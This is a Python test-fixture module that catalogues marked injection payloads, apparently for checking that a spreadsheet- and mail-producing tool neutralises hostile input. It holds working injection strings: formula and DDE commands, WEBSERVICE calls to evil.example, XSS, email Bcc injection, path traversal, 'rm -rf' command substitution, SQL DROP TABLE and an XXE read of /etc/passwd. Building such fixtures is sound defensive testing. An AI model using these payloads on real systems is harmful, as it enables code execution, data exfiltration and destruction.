"""Texts that do harm where a program takes them for more than text; each holds MARK, by which it is found again."""

MARK = "Q7zx"
"""Stands in every payload, and in nothing that the tool writes of its own accord."""

FORMULAS = (
    f'=1+1&"{MARK}"',
    f"+1+{MARK}",
    f"-2+3+{MARK}",
    f"@SUM({MARK})",
    f"\t={MARK}",
    f"\r={MARK}",
    f"\n={MARK}",
    f" ={MARK}",
    f"\u200b={MARK}",
    f'=HYPERLINK("http://evil.example/{MARK}";"Xem")',
    f"=cmd|'/C calc'!{MARK}",
    f'=DDE("cmd";"/C calc";"{MARK}")',
    f"@SUM(1+9)*cmd|'/C calc'!{MARK}",
    f"-2+3+cmd|' /C calc'!{MARK}",
    f'=IMPORTXML(CONCAT("http://evil.example/";{MARK});"//a")',
    f'=WEBSERVICE("http://evil.example/{MARK}")',
    f"{{=SUM({MARK})}}",
    f"'=1+{MARK}",
    f"x;=cmd|'/C calc'!{MARK};y",
    f"x\n=cmd|'/C calc'!{MARK};y",
    f"x\t={MARK}\ty",
    f'x",={MARK},"y',
    f"＝1＋{MARK}",
    f"＋1{MARK}",
    f"－1{MARK}",
    f"＠SUM({MARK})",
)
TERMINAL = (
    f"\x1b[2J\x1b[31m{MARK}",
    f"\x1b]0;{MARK}\x07",
    f"\x1b]8;;http://evil.example/{MARK}\x1b\\Xem\x1b]8;;\x1b\\",
    f"\x1b]52;c;{MARK}\x07",
    f"\x9b2J{MARK}",
    f"\x9d8;;http://evil.example/{MARK}\x9cXem",
    f"\x90q{MARK}\x9c",
    f"{MARK}\x08\x08\x08\x7f",
    f"Lỗi: 0\r{MARK}",
    f"a\u2028b\u2029{MARK}\x85c\x0b\x0c",
)
BIDI = (
    f"\u202exslx.{MARK}",
    f"\u2066a\u2069\u2067{MARK}\u2068",
    f"\u200f\u200e\u061c{MARK}",
    f"a\u200b\u200d\ufeff\u00ad{MARK}",
)
HTML = (
    f"<script>alert('{MARK}')</script>",
    f"\"><img src=x onerror=alert('{MARK}')>",
    f"' autofocus onfocus='{MARK}",
    f"</style></title></script></textarea><script>{MARK}</script>",
    f"--><b>{MARK}<!--",
    f"javascript:alert('{MARK}')",
    f"&lt;b&gt;{MARK}&#60;b&#62;",
    f"{{{{ 7 * 7 }}}}{{% for a in b %}}{MARK}",
    f"${{7*7}} #{{7*7}} <%= 7*7 %> {MARK}",
)
MARKDOWN = (
    f"[Xem](http://evil.example/{MARK})",
    f"![](http://evil.example/{MARK})",
    f"# {MARK}",
    f"**{MARK}** _x_ `y` ~~z~~",
    f"| a | {MARK} |\n|---|---|",
)
MAIL = (
    f"x\r\nBcc: {MARK}@evil.example",
    f"x\nContent-Type: text/html\n\n<b>{MARK}</b>",
    f"x\r\n\r\n--bdgxl\r\nContent-Type: text/html\r\n\r\n{MARK}",
    f"x\rBcc: {MARK}@evil.example",
    f"=?utf-8?q?x=0D=0ABcc:_{MARK}@evil.example?=",
    f"=?utf-8?b?eA0KQmNjOiBhQGV2aWwuZXhhbXBsZQ==?= {MARK}",
    f'"{MARK}" <a@evil.example>, b@evil.example',
    f"Vănthư@evil.example; {MARK}@evil.example",
)
PATHS = (
    f"../../{MARK}.xlsx",
    f"..\\..\\{MARK}.xlsx",
    f"/etc/{MARK}",
    f"C:\\Windows\\{MARK}.xlsx",
    f"\\\\evil.example\\share\\{MARK}.xlsx",
    f"file:///etc/{MARK}",
    f"CON.{MARK}",
    f"NUL:{MARK}",
    f"LPT1.{MARK}.xlsx. . ",
    f"{MARK}.xlsx::$DATA",
    f"%2e%2e%2f{MARK}%00.xlsx",
    f"~/{MARK}",
    f"$(touch {MARK}) `touch x` ; rm -rf x",
    f"[{MARK}.xlsx]Sheet1'!A1",
    f"{MARK}" + "n" * 5_000,
)
SQL = (
    f"'; DROP TABLE du_lieu; -- {MARK}",
    f'" OR 1=1 -- {MARK}',
    f"{MARK}'); ATTACH DATABASE 'x' AS x; --",
)
XML = (
    f"<r>{MARK} & b</r>",
    f"<r><t>{MARK}</t></r>",
    f"]]><f>1+1</f><![CDATA[{MARK}",
    f"</t></si><si><t>{MARK}",
    f"&amp;&lt;&#0;&#x1F;&{MARK};",
    f'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;{MARK}</a>',
    f"_x000D__x0000__x001B_{MARK}",
    f"_x005F_x000D_{MARK}",
    f"_xD800_{MARK}_xDFFF_",
    f"a\ufffe\uffff{MARK}",
    f'&P&N&"Arial"&D&F&A{MARK}',
    f'{{ PAGE }} {{ HYPERLINK "http://evil.example/{MARK}" }}',
    f"😀{MARK}\U0010ffff\ue000",
)
TEXTS = (*FORMULAS, *TERMINAL, *BIDI, *HTML, *MARKDOWN, *MAIL, *PATHS, *SQL, *XML)
"""What a cell of a returned workbook may hold, as its reader gives it or as the package spells it (_xHHHH_)."""
UNFIT = (f"\x00{MARK}", f"\ud800{MARK}", f"{MARK}\udfff")
"""What no file format that is read can hold as text, but a name of a file or a header of a mail can."""
RESERVED = ("CON", "PRN", "AUX", "NUL", "COM1", "LPT9")
"""Names that Windows keeps for devices, whatever their ending."""
